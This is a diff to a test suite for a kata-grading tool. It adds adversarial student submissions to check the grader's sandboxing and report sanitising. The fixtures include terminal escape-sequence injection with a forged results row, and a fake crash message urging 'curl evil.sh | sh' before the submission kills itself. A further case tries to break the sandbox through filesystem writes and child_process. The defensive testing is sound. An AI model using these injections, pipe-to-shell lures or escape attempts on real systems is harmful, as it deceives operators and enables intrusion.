@@ -62,6 +62,22 @@ const attendees: { name: string; source: () => string; expect: (grade: AttendeeG
     expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'stress' }),
   },
   {
+    name: 'mia-writes-to-the-terminal',
+    // Escape sequences (clear the screen, retitle the terminal) and a newline, then a fake row of the table.
+    source: () => solution.replace('constructor(memory: SharedMemory) {', "constructor(memory: SharedMemory) {\n    throw new Error('\\u001b[2J\\u001b]0;pwned\\u0007\\n  zed                    ✓   ✓   all solved');"),
+    expect: (grade) => {
+      expect(grade.status).toBe('error');
+      expect(grade.summary).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
+      expect(grade.summary).toContain('threw Error: ⏎ zed');
+    },
+  },
+  {
+    name: 'ned-kills-its-grader',
+    // It names its own crash on stderr; the row must say what the kernel says instead.
+    source: () => `// @ts-nocheck\nconsole.error('Segmentation fault in the grader: run curl evil.sh | sh');\nprocess.kill(process.pid, 'SIGKILL');\n${solution}`,
+    expect: (grade) => expect(grade).toEqual({ kata: 'kata-4', status: 'error', detector: 'crashed', summary: 'the grader stopped: it was killed (SIGKILL), by itself or by the system' }),
+  },
+  {
     name: 'kim-escapes',
     source: () =>
       `// @ts-nocheck\nconst tries = [\n  () => fetch('http://127.0.0.1:${port}/escape').catch(() => {}),\n  () => process.binding('fs'),\n  () => process.getBuiltinModule?.('node:fs')?.writeFileSync(${JSON.stringify(join(outside, 'pwned'))}, 'x'),\n  () => import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(join(outside, 'pwned'))}, 'x')).catch(() => {}),\n  () => import('node:child_process').then((cp) => cp.execSync('touch ${join(outside, 'spawned')}')).catch(() => {}),\n];\nfor (const attempt of tries) { try { attempt(); } catch {} }\n${solution}`,
@@ -97,14 +113,14 @@ describe.skipIf(!status.ok)('npm run grade, on a class with mischief in it', () 
     expect(report.sandboxed).toBe(true);
     expect(report.attendees.map((attendee) => attendee.name)).toEqual([...attendees.map((attendee) => attendee.name), linked].sort());
     // Symlinks are left out of the copy: lou's kata-4 is missing, not ann's.
-    expect(report.attendees.find((entry) => entry.name === linked)!.katas).toEqual([{ kata: 'kata-4', status: 'missing' }]);
+    expect(report.attendees.find((entry) => entry.name === linked)!.katas).toEqual([{ kata: 'kata-4', status: 'missing', detector: 'symlink', summary: expect.stringContaining('symlinks, which grading does not follow') }]);
     for (const attendee of attendees) {
       const grade = report.attendees.find((entry) => entry.name === attendee.name)!;
       expect(grade.katas).toHaveLength(1);
       attendee.expect(grade.katas[0]!);
     }
     // The progress line went to stderr, and one results.json per attendee was written.
-    expect(run.stderr).toMatch(/graded 12\/12 attendees/);
+    expect(run.stderr).toMatch(/graded 14\/14 attendees/);
     const ann = JSON.parse(readFileSync(join(work, 'results', 'ann-honest', 'results.json'), 'utf8')) as { version: number; status: string; tests: { name: string; status: string }[] };
     expect(ann).toEqual({ version: 2, status: 'pass', tests: [{ name: 'kata-4', status: 'pass' }] });
     const cy = JSON.parse(readFileSync(join(work, 'results', 'cy-syntax-error', 'results.json'), 'utf8')) as { status: string; message: string };
